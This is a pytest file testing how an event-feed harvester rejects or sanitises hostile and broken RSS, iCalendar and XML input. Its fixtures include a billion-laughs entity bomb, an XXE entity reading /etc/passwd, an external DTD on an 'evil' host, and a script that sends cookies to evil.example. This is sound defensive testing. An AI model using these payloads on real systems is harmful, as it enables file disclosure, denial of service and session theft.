"""Hostile and broken input through the whole ``check`` path (parser + normaliser) and ``formats.safe``.

Each test names the attack or the accident, and asserts the precise outcome: refused with one
clear line, or read with the harmful part dropped and a warning.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from harvester.check import CheckError, CheckResult, check
from harvester.formats import FormatError, feed, ical, safe

NOW = datetime(2025, 3, 3, 9, 0, tzinfo=ZoneInfo("Europe/Berlin"))
RSS_URL = "https://bibliothek.example/termine.rss"
ICS_URL = "https://vhs.example/kurse.ics"
XML_URL = "https://kursnet.example/katalog.xml"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"

LAUGHS_DTD = (
    '<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10))
    + "]>\n"
)
XXE_DTD = '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def run(content: bytes, format_name: str, location: str = RSS_URL) -> CheckResult:
    return check(location, format_name=format_name, timezone="Europe/Berlin", now=NOW, content=content)


def refused(content: bytes, format_name: str, location: str = RSS_URL) -> str:
    """The one line ``check`` refuses the document with."""
    with pytest.raises(CheckError) as caught:
        run(content, format_name, location)
    message = str(caught.value)
    assert "\n" not in message.strip()
    return message


def rss(items: str, *, prolog: str = "", namespaces: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<rss version="2.0"{namespaces}><channel>'
        "<title>Stadtbibliothek</title><link>https://bibliothek.example/</link><description>Termine</description>"
        f"{items}</channel></rss>"
    ).encode()


def ics(*events: str) -> bytes:
    body = "".join(f"BEGIN:VEVENT\r\n{e}\r\nEND:VEVENT\r\n" for e in events)
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//DE\r\n{body}END:VCALENDAR\r\n".encode()


ITEM = (
    "<item><title>Lesung im Lesecafé</title><guid>lesung-1</guid>"
    "<description>Do., 27.03.2025, 19:30–21:00 Uhr. Eintritt frei.</description></item>"
)


# --- XML entities: billion laughs and external entities ------------------------------------------------


@pytest.mark.parametrize("dtd", [LAUGHS_DTD, XXE_DTD], ids=["billion-laughs", "xxe"])
def test_entities_in_an_rss_feed_are_refused_quickly(dtd: str) -> None:
    item = "<item><title>&lol9;&xxe;</title><guid>x</guid></item>"
    started = time.monotonic()
    message = refused(rss(item, prolog=dtd.format(root="rss")), "rss")
    assert time.monotonic() - started < 1.0
    assert message == (
        f"{RSS_URL}: the feed declares XML entities (<!ENTITY>); refused, as entities can expand or fetch files"
    )


@pytest.mark.parametrize("dtd", [LAUGHS_DTD, XXE_DTD], ids=["billion-laughs", "xxe"])
def test_entities_in_a_generic_xml_document_are_refused(dtd: str) -> None:
    document = f'<?xml version="1.0"?>\n{dtd.format(root="OPENQCAT")}<OPENQCAT>&lol9;&xxe;</OPENQCAT>'.encode()
    with pytest.raises(FormatError) as caught:
        safe.parse_xml(document)
    assert str(caught.value) == "the XML declares entities (<!ENTITY>); refused, as entities can expand or fetch files"
    message = refused(document, "openqcat", XML_URL)
    assert message == f"{XML_URL}: {caught.value}"


def test_an_external_dtd_is_never_fetched_and_an_undefined_entity_stays_unexpanded() -> None:
    document = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd"><r><a>&xxe;</a></r>'
    root = safe.parse_xml(document)  # no network: a fetch of port 9 would fail loudly or hang
    assert "root:" not in "".join(root.itertext())


# --- charsets ---------------------------------------------------------------------------------------------

GERMAN_ITEM = (
    "<item><title>Führung „Alte Handwerke“</title><guid>f-1</guid>"
    "<description>So., 16.03.2025, 14:30 Uhr, Heimatmuseum</description></item>"
)


def test_latin1_bytes_declared_as_utf8_are_read_with_a_warning() -> None:
    content = rss(GERMAN_ITEM).decode().encode("cp1252")
    (offer,) = run(content, "rss").offers
    assert offer.title == "Führung „Alte Handwerke“"
    first = content.index(b"\xfc")
    assert offer.warnings[0] == f"the feed is not valid UTF-8 (first at byte {first}); read such bytes as Windows-1252"
    assert offer.start.isoformat() == "2025-03-16T14:30:00+01:00"


def test_latin1_calendar_and_latin1_generic_text_are_read_with_a_warning() -> None:
    content = ics("UID:a\r\nSUMMARY:Führung\r\nDTSTART;TZID=Europe/Berlin:20250316T143000").decode().encode("latin-1")
    (offer,) = run(content, "ical", ICS_URL).offers
    assert offer.title == "Führung"
    assert offer.warnings[0].startswith("text is not valid UTF-8 (byte ")
    text, warnings = safe.decode_text("Führung".encode("latin-1"))
    assert (text, warnings) == ("Führung", ["text is not valid UTF-8 (byte 1); read it as Windows-1252 (Latin-1)"])


@pytest.mark.parametrize(
    ("encode", "format_name"),
    [
        (lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"), "rss"),
        (lambda text: text.encode("utf-16"), "rss"),
        (lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"), "ical"),
        (lambda text: text.encode("utf-16"), "ical"),
    ],
    ids=["rss-utf8-bom", "rss-utf16-bom", "ical-utf8-bom", "ical-utf16-bom"],
)
def test_byte_order_marks_are_honoured_without_warnings(encode: Callable[[str], bytes], format_name: str) -> None:
    if format_name == "rss":
        text = rss(GERMAN_ITEM).decode()
    else:
        text = ics("UID:a\r\nSUMMARY:Führung „Alte Handwerke“\r\nDTSTART;TZID=Europe/Berlin:20250316T143000").decode()
    (offer,) = run(encode(text), format_name).offers
    assert offer.title == "Führung „Alte Handwerke“"
    assert offer.start.isoformat() == "2025-03-16T14:30:00+01:00"
    assert [w for w in offer.warnings if "UTF" in w or "charset" in w] == []


def test_safe_readers_honour_byte_order_marks() -> None:
    assert safe.decode_text(b"\xef\xbb\xbfF\xc3\xbchrung") == ("Führung", [])
    assert safe.decode_text("Führung".encode("utf-16")) == ("Führung", [])
    assert safe.parse_json(b'\xef\xbb\xbf{"titel": "F\xc3\xbchrung"}') == {"titel": "Führung"}
    assert safe.parse_xml('<?xml version="1.0" encoding="UTF-16"?><r>Führung</r>'.encode("utf-16")).text == "Führung"


# --- size caps ----------------------------------------------------------------------------------------------


def test_an_oversized_feed_is_refused_with_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feed, "MAX_FEED_BYTES", 100)
    content = rss(ITEM)
    assert (
        refused(content, "rss") == f"{RSS_URL}: the feed is larger than the 100 bytes we read ({len(content):,} bytes)"
    )


def test_an_oversized_calendar_is_refused_with_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ical, "MAX_CALENDAR_BYTES", 100)
    content = ics("UID:a\r\nSUMMARY:A\r\nDTSTART:20250310T170000Z")
    message = refused(content, "ical", ICS_URL)
    assert message == f"{ICS_URL}: the calendar is larger than the 100 bytes we read ({len(content):,} bytes)"


def test_an_oversized_generic_document_is_refused_with_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe, "MAX_DOCUMENT_BYTES", 100)
    message = refused(b'<?xml version="1.0"?><OPENQCAT>' + b" " * 200 + b"</OPENQCAT>", "openqcat", XML_URL)
    assert message.startswith(f"{XML_URL}: the XML document is larger than ")
    with pytest.raises(FormatError, match=r"^the JSON document is larger than "):
        safe.parse_json(b'{"a": "' + b"x" * 200 + b'"}')


# --- absurd recurrence rules --------------------------------------------------------------------------------


def test_freq_secondly_without_end_is_capped_quickly_with_a_warning() -> None:
    content = ics("UID:s\r\nSUMMARY:Sekündlich\r\nDTSTART;TZID=Europe/Berlin:20250301T100000\r\nRRULE:FREQ=SECONDLY")
    started = time.monotonic()
    (offer,) = run(content, "ical", ICS_URL).offers
    assert time.monotonic() - started < 2.0
    assert [s.start.isoformat() for s in offer.sessions] == ["2025-03-01T10:00:00+01:00"]
    assert (
        "the recurrence rule 'FREQ=SECONDLY' repeats too often up to 2026-04-01; it was not expanded" in offer.warnings
    )


def test_freq_daily_since_1970_is_capped_quickly_with_a_warning() -> None:
    content = ics("UID:d\r\nSUMMARY:Täglich\r\nDTSTART;TZID=Europe/Berlin:19700101T100000\r\nRRULE:FREQ=DAILY")
    started = time.monotonic()
    (offer,) = run(content, "ical", ICS_URL).offers
    assert time.monotonic() - started < 2.0
    assert offer.sessions[0].start.isoformat() == "2025-01-31T10:00:00+01:00"
    assert offer.sessions[-1].start.isoformat() == "2026-03-31T10:00:00+02:00"
    assert len(offer.sessions) == 425
    assert "the recurrence yields more than 5000 dates; read the dates from 2025-01-31 on" in offer.warnings


def test_many_rules_that_never_match_cost_little() -> None:
    events = [
        f"UID:n{n}\r\nSUMMARY:Nie\r\nDTSTART;TZID=Europe/Berlin:20200101T100000\r\nRRULE:FREQ=HOURLY;BYMONTH=2;BYMONTHDAY=30"
        for n in range(20)
    ]
    started = time.monotonic()
    result = run(ics(*events), "ical", ICS_URL)
    assert time.monotonic() - started < 2.0  # dateutil alone: ≈10 s per event (it steps on to the year 9999)
    assert len(result.offers) == 20


# --- markup, dates, titles -------------------------------------------------------------------------------------


def test_script_in_descriptions_is_stripped_with_its_content() -> None:
    item = (
        "<item><title>Krimiabend</title><guid>k</guid><description><![CDATA[<p>Do., 27.03.2025, 19:30 Uhr</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script><p>Eintritt 8 €</p>]]>"
        "</description></item>"
    )
    (offer,) = run(rss(item), "rss").offers
    assert offer.description == "Do., 27.03.2025, 19:30 Uhr\n\nEintritt 8 €"
    assert "HTML removed from description" in offer.warnings
    event = (
        "UID:a\r\nSUMMARY:Deutsch-Café\r\nDTSTART;TZID=Europe/Berlin:20250306T190000\r\n"
        "X-ALT-DESC;FMTTYPE=text/html:<p>Tee und Kekse</p><script>alert(1)</script>"
    )
    (offer,) = run(ics(event), "ical", ICS_URL).offers
    assert offer.description == "Tee und Kekse"


def test_dates_without_times_are_all_day() -> None:
    items = (
        "<item><title>Flohmarkt</title><guid>a</guid><description>Samstag, 22.03.2025</description></item>"
        "<item><title>Radtour</title><guid>b</guid><ev:startdate>2025-05-10</ev:startdate></item>"
    )
    first, second = run(rss(items, namespaces=' xmlns:ev="http://purl.org/rss/1.0/modules/event/"'), "rss").offers
    assert (first.start.isoformat(), first.end, first.all_day) == ("2025-03-22", None, True)
    assert (second.start.isoformat(), second.end, second.all_day) == ("2025-05-10", None, True)
    (offer,) = run(ics("UID:t\r\nSUMMARY:Tag der offenen Tür\r\nDTSTART;VALUE=DATE:20250322"), "ical", ICS_URL).offers
    assert (offer.start.isoformat(), offer.end, offer.all_day) == ("2025-03-22", None, True)


def test_date_ranges() -> None:
    items = (
        "<item><title>Nähtreff</title><guid>a</guid><description>Sa., 05.04.2025, 14–17 Uhr</description></item>"
        "<item><title>Ferienkurs</title><guid>b</guid><description>vom 12. bis 16. Mai 2025</description></item>"
    )
    first, second = run(rss(items), "rss").offers
    assert (first.start.isoformat(), first.end.isoformat()) == (
        "2025-04-05T14:00:00+02:00",
        "2025-04-05T17:00:00+02:00",
    )
    assert (second.start.isoformat(), second.end.isoformat(), second.all_day) == ("2025-05-12", "2025-05-16", True)
    event = "UID:b\r\nSUMMARY:Bildungsurlaub\r\nDTSTART;VALUE=DATE:20250512\r\nDTEND;VALUE=DATE:20250517"
    (offer,) = run(ics(event), "ical", ICS_URL).offers
    assert (offer.start.isoformat(), offer.end.isoformat(), offer.all_day) == ("2025-05-12", "2025-05-16", True)


def test_an_end_before_the_start_is_dropped_with_a_warning() -> None:
    item = (
        "<item><title>Repair-Café</title><guid>r</guid><ev:startdate>2025-03-15T13:00:00+01:00</ev:startdate>"
        "<ev:enddate>2025-03-15T10:00:00+01:00</ev:enddate></item>"
    )
    (offer,) = run(rss(item, namespaces=' xmlns:ev="http://purl.org/rss/1.0/modules/event/"'), "rss").offers
    assert (offer.start.isoformat(), offer.end) == ("2025-03-15T13:00:00+01:00", None)
    assert "end 2025-03-15T10:00:00+01:00 is before start 2025-03-15T13:00:00+01:00; end ignored" in offer.warnings
    event = (
        "UID:v\r\nSUMMARY:Vortrag\r\nDTSTART;TZID=Europe/Berlin:20250310T180000\r\n"
        "DTEND;TZID=Europe/Berlin:20250310T170000"
    )
    (offer,) = run(ics(event), "ical", ICS_URL).offers
    assert (offer.start.isoformat(), offer.end) == ("2025-03-10T18:00:00+01:00", None)
    assert "end 2025-03-10T17:00:00+01:00 is before start 2025-03-10T18:00:00+01:00; end ignored" in offer.warnings


def test_missing_titles_are_rejected_with_the_reason() -> None:
    result = run(rss("<item><guid>ohne-titel</guid><description>Text</description></item>" + ITEM), "rss")
    assert [o.title for o in result.offers] == ["Lesung im Lesecafé"]
    assert [(r.reason, r.record_ref) for r in result.rejects] == [
        ("title: missing or empty (every offer needs a title)", "ohne-titel")
    ]
    result = run(
        ics("UID:leer\r\nDTSTART:20250310T170000Z", "UID:voll\r\nSUMMARY:Kurs\r\nDTSTART:20250310T170000Z"), "ical"
    )
    assert [o.title for o in result.offers] == ["Kurs"]
    assert [r.reason for r in result.rejects] == ["title: missing or empty (every offer needs a title)"]


# --- documents that are not feeds at all ---------------------------------------------------------------------


def test_png_bytes_as_rss_atom_and_ical_are_refused_with_one_line() -> None:
    expected = f"{RSS_URL}: not an RSS or Atom feed: it is not XML (it begins with {PNG[:12]!r})"
    assert refused(PNG, "rss") == expected
    assert refused(PNG, "atom") == expected
    assert refused(PNG, "ical", ICS_URL).startswith(
        f"{ICS_URL}: not an iCalendar file (it does not start with BEGIN:VCALENDAR but with '‰PNG"
    )


def test_an_html_page_given_as_rss_is_refused_with_one_line() -> None:
    page = (
        b"<!DOCTYPE html>\n<html lang='de'><head><title>Stadtbibliothek</title>"
        b"<link rel='alternate' type='application/rss+xml' href='/termine.rss'></head>"
        b"<body><h1>Veranstaltungen</h1><p>Lesung<br></body></html>"
    )
    assert refused(page, "rss") == (
        f"{RSS_URL}: not an RSS or Atom feed but an HTML page (the page may name its feed in a "
        '<link rel="alternate" type="application/rss+xml">)'
    )
    assert refused(page, "ical", ICS_URL) == (
        f"{ICS_URL}: not an iCalendar file: it is an HTML page (does the calendar's address need ?ical=1 or a login?)"
    )


# --- NUL bytes -------------------------------------------------------------------------------------------------


def test_nul_bytes_are_removed_with_a_warning() -> None:
    (offer,) = run(rss(ITEM.replace("Lesecafé", "Lese\x00café")), "rss").offers
    assert offer.title == "Lesung im Lesecafé"
    assert offer.warnings[0] == "removed 1 control characters (such as NUL) that XML does not allow"
    content = ics("UID:a\r\nSUMMARY:Lese\x00café\r\nDTSTART;TZID=Europe/Berlin:20250310T180000")
    (offer,) = run(content, "ical", ICS_URL).offers
    assert offer.title == "Lesecafé"
    assert offer.warnings[0] == "removed 1 control characters (such as NUL) that iCalendar does not allow"


def test_nul_bytes_in_generic_xml_are_refused() -> None:
    with pytest.raises(FormatError) as caught:
        safe.parse_xml(b'<?xml version="1.0"?><r>a\x00b</r>')
    assert str(caught.value) == "not well-formed XML (line 1: Invalid character: Char 0x0 out of allowed range)"
